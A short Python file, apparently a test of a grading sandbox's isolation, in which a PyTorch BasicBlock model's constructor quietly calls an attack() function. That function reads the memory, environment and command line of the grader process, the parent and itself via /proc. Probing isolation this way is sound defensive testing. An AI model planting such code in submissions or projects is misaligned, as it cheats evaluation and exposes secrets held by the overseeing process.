"""Read the memory, the environment and the command line of the processes that grade."""

import contextlib
import os

from torch import nn

GRADER = "@GRADER@"


def attack():
    for process in (GRADER, str(os.getppid()), "self"):
        for name in ("mem", "maps", "environ", "cmdline", "auxv", "stack", "status"):
            with contextlib.suppress(OSError), open(f"/proc/{process}/{name}", "rb") as file:
                raise SystemExit(f"ATTACK SUCCEEDED: {name} {file.read(100)}")


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()
        attack()
